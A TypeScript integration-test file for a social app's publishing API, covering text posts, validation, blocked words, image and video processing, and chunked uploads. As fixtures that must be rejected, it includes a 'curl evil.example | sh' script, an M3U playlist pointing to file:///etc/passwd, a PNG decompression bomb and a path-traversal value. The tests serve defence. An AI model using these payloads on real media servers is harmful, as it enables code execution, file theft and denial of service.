import { join } from 'node:path';
import { crc32, deflateSync } from 'node:zlib';
import type { RealtimeEvent } from '@livery/contract';
import { afterAll, beforeAll, describe, expect, it, test } from 'vitest';
import { storeSetting } from '../../../infra/settings/settings.repository.ts';
import { makeClip } from '../../../testing/clip.ts';
import { temporaryFolder } from '../../../testing/temporary-folder.ts';
import { startTestApp, type TestApp, type TestPerson } from '../../../testing/test-app.ts';
import { picture, publishing } from './publishing.testing.ts';

let app: TestApp;
let ann: TestPerson;
let ben: TestPerson;
beforeAll(async () => {
  app = await startTestApp();
  await app.startJobs();
  [ann, ben] = [await app.signUp({ nickname: 'Ann' }), await app.signUp({ nickname: 'Ben' })];
});
afterAll(() => app.stop());
const { ask, open, publish, sendPicture, sendVideo, settled, target, upload, uploadVideo } = publishing(
  () => app,
);

/** What somebody is told from now on. */
const eventsOf = ({ id }: TestPerson): RealtimeEvent[] => {
  const events: RealtimeEvent[] = [];
  app.infra.pubsub.subscribe(({ event, audience }) => {
    if ('users' in audience && audience.users.includes(id)) events.push(event);
  });
  return events;
};
const H264 = ['-c:v', 'libx264', '-pix_fmt', 'yuv420p', '-movflags', '+faststart'];
const clipOf = (changes = {}) =>
  makeClip(join(temporaryFolder(), 'clip.mp4'), { size: '320x180', seconds: 1, codec: H264, ...changes });
/** The head of a PNG of 30,000 × 30,000. */
const bomb = (): Buffer => {
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type), data]);
    const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
    length.writeUInt32BE(data.length);
    sum.writeUInt32BE(crc32(body));
    return Buffer.concat([length, body, sum]);
  };
  const head = Buffer.from('00007530000075300802000000', 'hex');
  const parts = [
    chunk('IHDR', head),
    chunk('IDAT', deflateSync(Buffer.alloc(1000))),
    chunk('IEND', Buffer.alloc(0)),
  ];
  return Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), ...parts]);
};
const video = (file_path: string) => ({ kind: 'video', media: [{ file_path }] });
const rowsOf = (id: string) =>
  app.db().selectFrom('posts').select(['id', 'review']).where('author_id', '=', id).execute();
const images = (paths: string[], changes = {}) => ({
  ...{ kind: 'images', media: paths.map((file_path) => ({ file_path })) },
  ...changes,
});

describe('words alone', () => {
  it('need a session', async () => {
    expect((await publish({ ...ann, access: '' })).status).toBe(401);
    expect((await target({ ...ann, access: '' })).status).toBe(401);
  });

  it('are published at once, as their author wrote them', async () => {
    const { result } = await publish(ann, {
      ...{ description: ' First\r\n\n\n\nspring tea ', hashtags: ['tea', '春天', 'Tea'], place: ' 杭州 ' },
      ...{
        privacy: 'followers',
        allow_comment: false,
        allow_save: false,
        mentions: [ben.id, ann.id, 'nobody'],
      },
    });
    expect(result).toMatchObject({
      ...{
        kind: 'text',
        media: [],
        description: 'First\n\nspring tea',
        hashtags: ['tea', '春天'],
        place: '杭州',
      },
      ...{ review: 'approved', mentions: [{ id: ben.id, nickname: 'Ben' }] },
      permissions: { privacy: 'followers', allow_comment: false, allow_save: false },
    });
    expect((await ask(ben, 'GET', `posts/${result.id}`)).error).toBe('api.view_permission_denied');
  });

  it('stand on their author’s page at once, and are handed out to who follows them by the queue', async () => {
    const [cas, dan] = [await app.signUp(), await app.signUp()];
    await ask(dan, 'PUT', `authors/${cas.id}/follow`);
    const listed = async (person: TestPerson, path: string) =>
      (await ask(person, 'GET', path)).result.list.map(({ id }: { id: string }) => id);
    const { id } = (await publish(cas)).result;
    expect(await listed(cas, `authors/${cas.id}/posts`)).toEqual([id]);
    const queued = await app.infra.database.pool.query(
      `select 1 from jobs.job where name = 'social.tell-reviewed' and data->'payload'->>'id' = $1`,
      [id],
    );
    expect(queued.rows).toHaveLength(1);
    await expect.poll(() => listed(dan, 'recommend/follower'), { timeout: 20_000 }).toEqual([id]);
  });

  it('call nobody by name who has blocked the author, or whom the author has blocked', async () => {
    const [cas, dan] = [await app.signUp(), await app.signUp()];
    const blocks = [
      { user_id: cas.id, block_id: ann.id },
      { user_id: ann.id, block_id: dan.id },
    ];
    await app.db().insertInto('blocks').values(blocks).execute();
    expect((await publish(ann, { mentions: [cas.id, dan.id] })).result.mentions).toBeUndefined();
  });

  it('that come twice, also at once, are one post', async () => {
    const cas = await app.signUp();
    const answers = await Promise.all([1, 2, 3].map(() => publish(cas, { cid: 'same' })));
    const again = await publish(cas, { cid: 'same', description: 'another' });
    expect(new Set([...answers, again].map(({ result }) => result.id)).size).toBe(1);
    expect(await rowsOf(cas.id)).toHaveLength(1);
    expect((await publish(ann, { cid: 'same' })).result.id).not.toBe(again.result.id);
  });

  it('wait for operators where they look first', async () => {
    await storeSetting(app.db(), 'post_review', { mode: 'hold' });
    const { result } = await publish(ann);
    await storeSetting(app.db(), 'post_review', { mode: 'auto' });
    expect(result.review).toBe('auditing');
    expect((await ask(ben, 'GET', `posts/${result.id}`)).error).toBe('api.post_auditing');
  });
});

describe('a draft is refused', () => {
  it.each([
    ['501 characters', { description: '茶'.repeat(501) }, 'api.validation'],
    ['six hashtags', { hashtags: ['a', 'b', 'c', 'd', 'e', 'f'] }, 'api.validation'],
    ['a hashtag of 21', { hashtags: ['x'.repeat(21)] }, 'api.validation'],
    ['a hashtag with its sign', { hashtags: ['#tea'] }, 'api.validation'],
    ['a hashtag of two words', { hashtags: ['two words'] }, 'api.validation'],
    ['a place of 41', { place: 'x'.repeat(41) }, 'api.validation'],
    ['a privacy that there is not', { privacy: 'nobody' }, 'api.validation'],
    ['a kind that there is not', { kind: 'sound' }, 'api.validation'],
    ['a client id that is none', { cid: 'a b' }, 'api.validation'],
    ['ten pictures', images(Array.from({ length: 10 }, (_, n) => `posts/x/${n}.jpg`)), 'api.validation'],
    ['nothing', { description: ' \n ' }, 'api.invalid_data'],
    ['no picture', { kind: 'images' }, 'api.invalid_data'],
    ['no video', { kind: 'video' }, 'api.invalid_data'],
    ['words with a picture', { media: [{ file_path: 'posts/x/1.jpg' }] }, 'api.invalid_data'],
    ['a path that is none', images(['../../secret']), 'api.invalid_data'],
    ['a link', { description: 'see evil.example.com now' }, 'api.comment_has_hyperlink'],
    ['a link as the place', { place: 'https://evil.example' }, 'api.comment_has_hyperlink'],
  ])('with %s', async (_, changes, error) => {
    const cas = await app.signUp();
    expect(await publish(cas, changes)).toMatchObject({ status: 400, error });
    expect(await rowsOf(cas.id)).toEqual([]);
  });

  it('for a word that operators refuse, which is named, as is while it is written', async () => {
    await storeSetting(app.db(), 'block_words', { words: ['casino', '赌场'] });
    const check = (words: object) =>
      ask(ann, 'POST', 'posts/check-content', { description: '', hashtags: [], ...words });
    for (const words of [
      { description: 'ＣＡＳＩＮＯ night' },
      { hashtags: ['赌场'] },
      { place: '赌场对面' },
    ]) {
      for (const refused of [await publish(ann, words), await check(words)])
        expect(refused.error).toBe('api.block_word');
    }
    const { raw } = await publish(ann, { description: 'a Casino' });
    expect(raw.json()).toMatchObject({ error: 'api.block_word', params: { word: 'casino' } });
    expect((await check({ description: 'www.evil.com' })).error).toBe('api.comment_has_hyperlink');
    expect((await check({ place: 'www.evil.com' })).error).toBe('api.comment_has_hyperlink');
    expect((await check({ hashtags: ['a b'] })).error).toBe('api.validation');
    expect((await check({ description: 'tea', hashtags: ['tea'] })).result).toEqual({});
    await storeSetting(app.db(), 'block_words', { words: [] });
  });

  it('where the brand has no publishing', async () => {
    const brand = app.infra.brands.byId('aurora');
    if (!brand) throw new Error('no brand');
    const { features } = brand.config;
    Object.assign(brand.config, { features: { ...features, publish: false } });
    const answers = [await publish(ann), await target(ann)];
    Object.assign(brand.config, { features });
    expect(answers.map(({ error }) => error)).toEqual(['api.forbidden', 'api.forbidden']);
  });

  it('of a video, on every way to one, where the brand has none', async () => {
    const brand = app.infra.brands.byId('aurora');
    if (!brand) throw new Error('no brand');
    const { features } = brand.config;
    const sent = 'posts/any.mp4';
    Object.assign(brand.config, { features: { ...features, videos: false } });
    const [path, parts] = ['/social/api/upload-parts', { file_path: sent, size: 1 }];
    const answers = [
      await publish(ann, video(sent)),
      await target(ann, 'video', 'mp4'),
      await app.call({ url: `${path}?file_path=${sent}&size=1`, token: ann.access }),
      await app.call({ method: 'POST', url: path, token: ann.access, body: parts }),
    ];
    const others = [await publish(ann), await target(ann, 'image', 'jpg')];
    Object.assign(brand.config, { features });
    expect(answers.map(({ error }) => error)).toEqual(Array(4).fill('api.forbidden'));
    expect(others.map(({ status }) => status)).toEqual([200, 200]);
  });
});

describe('files', () => {
  it('are taken of the kinds that there are', async () => {
    const answers = await Promise.all([
      target(ann, 'image', 'mp4'),
      target(ann, 'video', 'jpg'),
      target(ann, 'image', 'pdf'),
      target(ann, 'sound', 'mp3'),
    ]);
    expect(answers.map(({ error }) => error)).toEqual([
      'api.unsupported_type',
      'api.unsupported_type',
      'api.validation',
      'api.validation',
    ]);
    const { form_data } = (await target(ann)).result;
    expect((await sendPicture(form_data, Buffer.from('no picture at all'))).error).toBe(
      'api.unsupported_type',
    );
  });

  it('are one’s own alone, that arrived, each once, and of their kind', async () => {
    const cas = await app.signUp();
    const [own, foreign] = [await upload(cas), await upload(ann)];
    const { file_path: missing } = (await target(cas)).result;
    const report = await app.call({
      url: '/api/v1/files/reports/upload_image?extension=jpg',
      token: cas.access,
    });
    await sendPicture(report.result.form_data, await picture());
    const wrong = [[foreign], [missing], [report.result.file_path], [own, own], [own, foreign]];
    for (const paths of wrong) expect((await publish(cas, images(paths))).error).toBe('api.invalid_data');
    const asVideo = { kind: 'video', media: [{ file_path: own }] };
    expect((await publish(cas, asVideo)).error).toBe('api.invalid_data');
    expect(await rowsOf(cas.id)).toEqual([]);
    const answers = await Promise.all([publish(cas, images([own])), publish(cas, images([own]))]);
    expect(answers.map(({ error }) => error).filter(Boolean)).toEqual(['api.invalid_data']);
    expect((await publish(cas, images([own]))).error).toBe('api.invalid_data');
    expect(await rowsOf(cas.id)).toHaveLength(1);
  });
});

test('pictures are made ready in the widths that they have; then others see them, and their author is told', async () => {
  const events = eventsOf(ann);
  const paths = [await upload(ann), await upload(ann, await picture(300, 900))];
  const { result } = await publish(ann, images(paths));
  expect(result).toMatchObject({ review: 'processing', media: [{ url: '', width: 600, height: 400 }, {}] });
  expect((await ask(ben, 'GET', `posts/${result.id}`)).error).toBe('api.post_auditing');

  const post = await settled(ann, result.id);
  expect(post).toMatchObject({
    review: 'approved',
    media: [
      { width: 600, height: 400, widths: [480], thumbhash: expect.stringMatching(/.{20}/) },
      { width: 300, height: 900 },
    ],
  });
  expect(post.media[1].widths).toBeUndefined();
  const [first, second] = post.media.map(({ url }: { url: string }) => url);
  const drawn = ['avif', 'webp', 'jpg'].map((type) => first.replace('.jpg', `-480.${type}`));
  const types = await Promise.all(
    [first, second, ...drawn].map(async (url) => (await open(url)).raw.headers['content-type']),
  );
  expect(types).toEqual(['image/jpeg', 'image/jpeg', 'image/avif', 'image/webp', 'image/jpeg']);
  expect((await ask(ben, 'GET', `posts/${result.id}`)).result.media).toHaveLength(2);
  expect(events.filter(({ event }) => event === 'post.reviewed')).toEqual([
    { event: 'post.reviewed', data: { post_id: result.id, review: 'approved' } },
  ]);
});

test('a video is shown once it is ready; one that is none behind its index is rejected, and its author told why', async () => {
  const clip = await clipOf();
  const noise = Buffer.from(clip).fill(0x5a, clip.indexOf('mdat') + 4);
  const events = eventsOf(ann);
  const [good, bad] = [
    (await publish(ann, video(await uploadVideo(ann, clip)))).result,
    (await publish(ann, video(await uploadVideo(ann, noise)))).result,
  ];
  expect([good, bad]).toMatchObject([
    { review: 'processing', media: [{ url: '', width: 320, height: 180 }] },
    {},
  ]);
  const shown = await settled(ann, good.id);
  expect(shown).toMatchObject({
    review: 'approved',
    media: [{ width: 320, thumbhash: expect.stringMatching(/.{20}/) }],
  });
  for (const url of [shown.media[0].url, shown.media[0].poster]) expect((await open(url)).status).toBe(200);
  const refused = { review: 'rejected', review_reason: 'unreadable', media: [{ url: '' }] };
  expect(await settled(ann, bad.id)).toMatchObject(refused);
  expect((await ask(ben, 'GET', `posts/${bad.id}`)).error).toBe('api.post_audit_rejected');
  expect(events.filter(({ event }) => event === 'post.reviewed')).toEqual([
    { event: 'post.reviewed', data: { post_id: good.id, review: 'approved' } },
    { event: 'post.reviewed', data: { post_id: bad.id, review: 'rejected', reason: 'unreadable' } },
  ]);
  const sent = await app.db().selectFrom('uploads').select('purpose').where('user_id', '=', ann.id).execute();
  expect(sent.filter(({ purpose }) => purpose === 'posted')).toEqual([]);
});

describe('a clip as iPhones film it (QuickTime)', () => {
  const mov = async (codec: string[]) =>
    makeClip(join(temporaryFolder(), 'IMG_0001.mov'), { size: '320x180', seconds: 1, codec });
  const send = async (bytes: Buffer) => {
    const { url, file_path } = (await target(ann, 'video', 'mov')).result;
    return { file_path, sent: await sendVideo(url, bytes, 'video/quicktime') };
  };

  it('is shown as an MP4, whatever it was written in', async () => {
    const filmed = [await mov([...H264, '-metadata', 'comment=At home']), await mov(['-c:v', 'mpeg4'])];
    for (const clip of filmed) {
      expect(clip.toString('latin1', 8, 12)).toBe('qt  ');
      const { file_path, sent } = await send(clip);
      expect([sent.status, file_path]).toEqual([200, expect.stringMatching(/^posts\/.*\.mov$/)]);
      const { id } = (await publish(ann, video(file_path))).result;
      const post = await settled(ann, id);
      expect(post).toMatchObject({ review: 'approved', media: [{ width: 320, height: 180 }] });
      const shown = await open(post.media[0].url);
      expect([shown.status, shown.raw.headers['content-type']]).toEqual([200, 'video/mp4']);
      expect(shown.raw.rawPayload.toString('latin1', 8, 12)).toBe('isom');
      expect(shown.raw.rawPayload.includes('At home')).toBe(false);
    }
  });

  it('comes in parts where it is long', async () => {
    const clip = await mov(H264);
    const { file_path } = (await target(ann, 'video', 'mov')).result;
    const query = new URLSearchParams({ file_path, size: String(clip.length) });
    const { missing } = (await ask(ann, 'GET', `upload-parts?${query}`)).result;
    expect((await sendVideo(missing[0].url, clip)).status).toBe(200);
    const joined = await ask(ann, 'POST', 'upload-parts', { file_path, size: clip.length });
    expect(joined.result).toEqual({ file_path, size: clip.length });
    expect((await publish(ann, video(file_path))).result.review).toBe('processing');
  });

  it('is none where it only bears the name', async () => {
    const head = Buffer.from('\0\0\0\x14ftypqt  \0\0\0\0qt  ', 'latin1');
    const script = Buffer.from('#!/bin/sh\ncurl evil.example | sh\n');
    const list = Buffer.from('#EXTM3U\n#EXTINF:1,\nfile:///etc/passwd\n#EXT-X-ENDLIST\n');
    for (const bytes of [script, list, await picture(), Buffer.concat([head, script])])
      expect((await send(bytes)).sent.error).toBe('api.unsupported_type');
  });
});

test('a long video comes in parts', async () => {
  const clip = await clipOf();
  const { file_path } = (await target(ann, 'video', 'mp4')).result;
  const place = { file_path, size: clip.length };
  const query = new URLSearchParams({ file_path, size: String(clip.length) });
  expect((await ask(ben, 'GET', `upload-parts?${query}`)).error).toBe('api.invalid_data');
  expect((await ask(ann, 'POST', 'upload-parts', place)).error).toBe('api.invalid_data');
  const { missing } = (await ask(ann, 'GET', `upload-parts?${query}`)).result;
  expect((await sendVideo(missing[0].url, clip)).status).toBe(200);
  const joined = { result: { file_path, size: clip.length } };
  expect(await ask(ann, 'POST', 'upload-parts', place)).toMatchObject(joined);
  expect(await ask(ann, 'POST', 'upload-parts', place)).toMatchObject(joined);
  expect((await ask(ann, 'GET', `upload-parts?${query}`)).result.missing).toEqual([]);
  expect((await publish(ann, video(file_path))).result.review).toBe('processing');
});

test('a video of 3,601 seconds, one that is a list or a picture, and a picture of 900 million pixels are not taken', async () => {
  const long = await clipOf();
  // Each of its frames is shown for hours.
  long.writeUInt32BE(0x7fffffff, long.indexOf('stts') + 16);
  const list = Buffer.from('#EXTM3U\n#EXTINF:1,\nfile:///etc/passwd\n#EXT-X-ENDLIST\n');
  const refuse = async (bytes: Buffer) =>
    (await sendVideo((await target(ann, 'video', 'mp4')).result.url, bytes)).error;
  expect(await refuse(long)).toBe('api.validation');
  expect(await refuse(list)).toBe('api.unsupported_type');
  expect(await refuse(await picture())).toBe('api.unsupported_type');
  const { form_data } = (await target(ann, 'image', 'png')).result;
  expect((await sendPicture(form_data, bomb())).error).toBe('api.unsupported_type');
});
